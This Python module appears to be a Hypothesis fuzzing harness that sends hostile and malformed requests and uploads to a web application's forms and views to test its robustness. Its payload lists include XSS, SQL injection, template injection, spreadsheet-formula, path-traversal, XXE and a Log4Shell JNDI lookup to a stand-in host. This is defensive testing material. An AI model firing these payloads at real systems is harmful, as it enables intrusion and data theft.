"""What somebody may send who means harm, or whose program is broken."""

from __future__ import annotations

import json
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, quote_plus

from hypothesis import strategies as st

MARK = "zvnmark"  # an element or attribute of this name in a page came from outside
SUM = "{{31337*3}} ${31337*3} #{31337*3} <%= 31337*3 %>"
SUMMED = "94011"
PAYLOADS = (
    f"<{MARK}>",
    f"\"'><{MARK} onload=alert(1)>",
    f'" {MARK}="1',
    f"' {MARK}='1",
    f"</script></title></textarea><{MARK}>",
    f"javascript:{MARK}()",
    f"[kwaad](javascript:{MARK}()) <b {MARK}>",
    SUM,
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "' OR '1'='1' --",
    "'; DROP TABLE process_instance; --",
    '") OR 1=1 OR ("',
    "a* OR NEAR(b) AND -c : ^d",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+31\t\r\n-1",
    "../../../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "//kwaad.example",
    "x\r\nX-Zvn: 1\r\n\r\n<html>",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud83d",
    "\u202e\u2066evil\u2069\u200b\ufeff",
    "e\u0301" * 50,
    "\U0001f469\u200d\U0001f469",
    "\x01\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029",
    "\uffff\ufffe",
    "ﷺ" * 40,
    "İıſK",
    "0",
    "-1",
    "-0",
    "2147483648",
    "9223372036854775808",
    "9" * 400,
    "-" + "9" * 5000,
    "1e400",
    "1e-400",
    "NaN",
    "Infinity",
    "0x7f",
    "١٢٣",
    "²",
    "1_000",
    " 1 ",
    "1.0",
    "true",
    "null",
    "None",
    "[]",
    "{}",
    '["a", {"b": [null]}]',
    "[" * 3000,
    '{"a":' * 500,
    "31-02-2026",
    "2026-13-45",
    "29-02-1900",
    "0000-00-00",
    "9999-12-31",
    "31-12-9999",
    "-0001-01-01",
    "31-12-99999",
    "2026-01-01T25:61:61+99:99",
    "23:59:60",
    "${jndi:ldap://kwaad.example/a}",
    "%s%n%x",
    "%00%0d%0a",
    "(a+)+$",
    "a" * 70_000,
    "é" * 20_000,
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "",
    " ",
    "\t\n",
)
FILES = (
    ("", b""),
    ("leeg.pdf", b""),
    ("brief.pdf", b"%PDF-1.4 brief"),
    ("brief.pdf", b"MZ\x90\x00 geen pdf"),
    ("../../../tmp/kwaad.docx", b"PK\x03\x04" + b"\x00" * 60),
    ("plaatje.png", b"\x89PNG\r\n\x1a\n" + b"\xff" * 40),
    ("kwaad.svg", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}()'/>".encode()),
    ("kwaad.html", f"<{MARK}>".encode()),
    ("pakket.zip", b"PK\x05\x06" + b"\x00" * 18),
    ("pakket.zip", b"PK\x03\x04 kapot"),
    ("x.form", b'{"components": [{"type": "textfield", "key": "a"}], "schemaVersion": 19'),
    ("x.form", b"[" * 20_000),
    ("x.bpmn", b"<?xml version='1.0'?><!DOCTYPE d [<!ENTITY a 'b'>]><definitions>&a;</definitions>"),
    ("x.dmn", b"<definitions xmlns='https://www.omg.org/spec/DMN/20191111/MODEL/'/>"),
    ("x.bpmn", b"\xff\xfe\x00<"),
    (f'"><{MARK}>.pdf', b"%PDF-1.4"),
    ("a" * 3000 + ".pdf", b"%PDF-1.4"),
    ("\u202efdp.exe", b"%PDF-1.4"),
    ("CON", b"tekst"),
    ("nul\x00.pdf", b"%PDF-1.4"),
)
HEADERS = (
    ("X-Revisie", ("-1", "9" * 30, "1e3", "²", "abc", "0", "1")),
    ("If-None-Match", ('"x"', "*", "W/", '"' * 50)),
    ("If-Modified-Since", ("gisteren", "Thu, 99 Foo 9999 99:99:99 GMT")),
    ("Range", ("bytes=0-1", "bytes=-99999999999999999999", "regels=a")),
    ("Accept-Language", ("xx-" * 200, "*;q=9", "nl;q=abc")),
    ("Accept", ("application/json", "*/*;" * 100, "kapot")),
    ("Referer", ("javascript:alert(1)", "http://kwaad.example/", "\u00ff")),
    ("X-Forwarded-For", ("127.0.0.1", "x" * 300)),
    ("X-Requested-With", ("XMLHttpRequest",)),
    ("Cookie", ("zevenstap=kapot; zevenstap=.a.b; taal=<x>",)),
    ("Authorization", ("Basic !!!!", "Bearer \u00ff", "Basic " + "QQ==" * 50)),
    ("Content-Encoding", ("gzip",)),
)

texts = st.one_of(
    st.sampled_from(PAYLOADS),
    st.sampled_from(PAYLOADS),
    st.text(max_size=60),
    st.text(st.characters(categories=("Cc", "Cf", "Cs", "Co", "Zl", "Zp", "Mn")), max_size=8),
    st.integers().map(str),
)
json_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), texts),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
    max_leaves=6,
)


@dataclass(frozen=True)
class Sent:
    """One request, as bytes: no library may mend it on the way."""

    query: str = ""
    body: bytes = b""
    content_type: str = ""
    headers: Mapping[str, str] = field(default_factory=dict)

    def __str__(self) -> str:
        return f"?{self.query[:300]} {self.content_type[:60]} {self.body[:1500]!r} {dict(self.headers)}"


@dataclass(frozen=True)
class Form:
    """A form as it stood on a page: where it goes, and what a browser would send."""

    action: str
    method: str
    fields: tuple[tuple[str, str], ...]
    files: tuple[str, ...] = ()


def coded(pairs: Sequence[tuple[str, str]]) -> str:
    """As in an address or a form, with what is no text as the bytes it would be."""
    return "&".join(f"{_quoted(name)}={_quoted(value)}" for name, value in pairs)


def _quoted(text: str) -> str:
    return quote_plus(text.encode("utf-8", "surrogatepass"))


def multipart(pairs: Sequence[tuple[str, str]], files: Sequence[tuple[str, tuple[str, bytes]]]) -> bytes:
    lines = []
    for name, value in pairs:
        head = f'Content-Disposition: form-data; name="{_in_head(name)}"\r\n\r\n'
        lines.append(f"--grens\r\n{head}{value}\r\n".encode("utf-8", "surrogatepass"))
    for name, (filename, content) in files:
        named = f'form-data; name="{_in_head(name)}"; filename="{_in_head(filename)}"'
        head = f"--grens\r\nContent-Disposition: {named}\r\nContent-Type: application/pdf\r\n\r\n"
        lines.append(head.encode("utf-8", "surrogatepass") + content + b"\r\n")
    return b"".join(lines) + b"--grens--\r\n"


def _in_head(text: str) -> str:
    return re.sub(r'["\r\n]', "%22", text)


def pairs_of(names: Sequence[str]) -> st.SearchStrategy[list[tuple[str, str]]]:
    """Names that the view reads, and others; one may come twice, and as a list."""
    known = st.sampled_from(sorted(names)) if names else st.just("q")
    name = st.one_of(known, known, known.map(lambda one: f"{one}[]"), texts)
    return st.lists(st.tuples(name, texts), max_size=6)


@st.composite
def queries(draw: Any, names: Sequence[str]) -> Sent:
    """A GET."""
    query = coded(draw(pairs_of(names)))
    if draw(st.integers(0, 9)) == 0:
        query = draw(
            st.sampled_from(["%", "%ff%fe=%c3", "&&&===", "a=1&" * 3000, "a" * 20_000, "pagina=" + "9" * 5000])
        )
    return Sent(query, headers=draw(headers()))


@st.composite
def headers(draw: Any) -> dict[str, str]:
    chosen = draw(st.lists(st.sampled_from(HEADERS), max_size=1))
    return {name: draw(st.sampled_from(values)) for name, values in chosen}


@st.composite
def bodies(draw: Any, names: Sequence[str]) -> Sent:
    """A POST or PUT in one of the ways a body can be wrong."""
    way = draw(st.sampled_from(["form", "form", "form", "parts", "parts", "json", "bytes", "mixed", "nothing"]))
    query = coded(draw(pairs_of(names))) if draw(st.integers(0, 3)) == 0 else ""
    pairs = draw(pairs_of(names))
    form = "application/x-www-form-urlencoded"
    if way == "form":
        return Sent(query, coded(pairs).encode(), form, draw(headers()))
    if way == "parts":
        files = draw(
            st.lists(st.tuples(st.sampled_from(sorted(names) or ["bestand"]), st.sampled_from(FILES)), max_size=2)
        )
        body = multipart(pairs, files)
        cut = draw(st.sampled_from([len(body), len(body), len(body) // 2, 9]))
        kind = draw(
            st.sampled_from(
                ["; boundary=grens", "; boundary=grens", "", "; boundary=" + "x" * 300, "; boundary=\u00ff"]
            )
        )
        return Sent(query, body[:cut], f"multipart/form-data{kind}", draw(headers()))
    if way == "json":
        text = _json(draw(json_values))
        broken = draw(st.sampled_from([text, text, text[:-1], text + "}", "[" * 5000, '{"a": "\\ud800"}']))
        return Sent(query, broken.encode("utf-8", "surrogatepass"), "application/json", draw(headers()))
    if way == "bytes":
        kind = draw(
            st.sampled_from([form, "text/xml", "application/octet-stream", "", "kapot", "text/plain; charset=utf-7"])
        )
        return Sent(query, draw(st.binary(max_size=80)), kind, draw(headers()))
    if way == "mixed":
        return Sent(query, coded(pairs).encode(), "multipart/form-data; boundary=grens")
    return Sent(query)


def _json(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)


@st.composite
def filled(draw: Any, form: Form) -> Sent:
    """A form as a browser would send it, but for one, two or all of its fields."""
    names = [name for name, _ in form.fields]
    much = draw(st.sampled_from(["one", "one", "two", "all", "gone", "twice"]))
    count = {"one": 1, "two": 2, "twice": 1, "gone": 1}.get(much, len(names))
    wrong = set(draw(st.lists(st.sampled_from(sorted(set(names))), max_size=count, unique=True))) if names else set()
    if much == "all":
        wrong = set(names)
    pairs = [
        (name, draw(texts) if name in wrong else value)
        for name, value in form.fields
        if not (much == "gone" and name in wrong)
    ]
    if much == "twice":
        pairs += [(name, draw(texts)) for name in sorted(wrong)]
    if not form.files:
        if form.method == "get":
            return Sent(coded(pairs))
        return Sent("", coded(pairs).encode(), "application/x-www-form-urlencoded")
    files = [(name, draw(st.sampled_from(FILES))) for name in form.files]
    return Sent("", multipart(pairs, files), "multipart/form-data; boundary=grens")


def part_of_path(text: str) -> str:
    """A text as one part of an address."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="")
